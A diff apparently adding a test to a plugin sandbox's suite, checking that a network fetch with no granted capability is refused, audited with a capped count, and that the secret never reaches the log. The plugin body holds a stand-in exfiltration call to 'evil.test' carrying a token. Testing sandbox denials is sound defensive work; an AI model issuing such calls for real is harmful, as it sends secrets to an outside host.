@@ -221,3 +221,15 @@ t.test('ctx.run tells a plugin who it is, and no more', async (t) => {
   const plugin = await runner.load({ source: 'export default (_, ctx) => [Object.keys(ctx.run).sort(), Object.isFrozen(ctx.run), ctx.run.tenant]', tenant: 'acme' })
   t.strictSame((await plugin.run(null, { user: 'ann', traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01' })).value, [['attempt', 'deadline', 'id', 'plugin', 'tenant', 'user', 'version'], true, 'acme'])
 })
+
+t.test('A fetch that nothing was granted for is refused inside the isolate, and in the audit all the same', async (t) => {
+  const lines: string[] = []
+  const runner = await openRunner(t, { audit: { write: (line) => lines.push(line) } })
+  const outcome = await runBody(runner, 'for (let i = 0; i < 300; i++) { try { await fetch("https://evil.test/x?token=secret") } catch (e) { if (e.name !== "NotCapable") throw e } } return "went on"')
+  t.match(outcome, { status: 'answered', value: 'went on', usage: { hostCalls: 0 } })
+  t.match(outcome.used, [{ kind: 'net', target: 'evil.test:443', effect: 'deny', count: 100 }])
+  const denials = lines.filter((line) => line.includes('evil.test'))
+  t.equal(denials.length, 100)
+  t.match(JSON.parse(denials[0] ?? ''), { event: 'decision', kind: 'net', target: 'evil.test:443', effect: 'deny', rule: 'default' })
+  t.notMatch(lines.join(''), /token=secret/)
+})
